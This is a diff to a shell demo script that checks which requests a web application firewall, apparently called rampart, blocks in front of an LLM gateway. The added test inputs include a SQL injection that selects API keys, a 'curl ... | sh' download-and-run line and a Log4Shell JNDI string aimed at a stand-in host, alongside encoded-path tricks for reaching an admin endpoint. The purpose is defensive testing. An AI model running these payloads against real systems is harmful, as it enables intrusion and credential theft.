@@ -19,6 +19,10 @@ trap cleanup EXIT
 "$VENV/bin/llmock" serve -h 127.0.0.1 -p 4000 --log-level warning >/tmp/rampart-demo-llmock.log 2>&1 &
 pids+=($!)
 for _ in $(seq 100); do curl -sf "http://127.0.0.1:4000/v1/models" >/dev/null && break; sleep 0.2; done
+if ! kill -0 "${pids[0]}" 2>/dev/null || ! curl -sf "http://127.0.0.1:4000/v1/models" | grep -q '"object"'; then
+  echo "demo: llmock did not start on 127.0.0.1:4000 (is the port taken?); its log: /tmp/rampart-demo-llmock.log" >&2
+  exit 1
+fi
 
 # Fresh random secrets for this run; in production they come from a secrets source.
 export RAMPART_ORIGIN_VERIFY_SECRET=$(python3 -c 'import secrets; print(secrets.token_hex(24))')
@@ -48,6 +52,11 @@ OV="X-Origin-Verify: $RAMPART_ORIGIN_VERIFY_SECRET"
 echo "rampart on $WEB (LiteLLM/Grafana), $LANGFUSE (Langfuse), $VM (VictoriaMetrics); admin $ADMIN"
 show 403 "chat completion straight to the origin, no X-Origin-Verify" "http://$WEB/v1/chat/completions" -H 'content-type: application/json' -d "$CHAT"
 show 200 "chat completion through the CDN (X-Origin-Verify set)" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' -d "$CHAT"
+show 403 "SQL injection in the query string (WAF)" "http://$WEB/v1/models?id=1%27%20UNION%20SELECT%20api_key%20FROM%20keys--" -H "$OV"
+show 200 "a prompt with a pasted shell script (llm profile: prose)" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' \
+  -d '{"model":"gpt-4o","messages":[{"role":"user","content":"review: rm -rf /tmp/x && curl https://x.example/i.sh | sh; SELECT * FROM users"}]}'
+show 403 "Log4Shell in a JSON field that is not prose" "http://$WEB/v1/chat/completions" -H "$OV" -H 'content-type: application/json' \
+  -d '{"model":"gpt-4o","user":"${jndi:ldap://x.example/a}","messages":[{"role":"user","content":"hi"}]}'
 show 403 "admin path /key/generate without X-Admin-Secret" "http://$WEB/key/generate" -H "$OV" -X POST
 show 403 "the same, spelled /%6bey/generate" --path-as-is "http://$WEB/%6bey/generate" -H "$OV" -X POST
 show 403 "the same, spelled /v1/../KEY/generate" --path-as-is "http://$WEB/v1/../KEY/generate" -H "$OV" -X POST
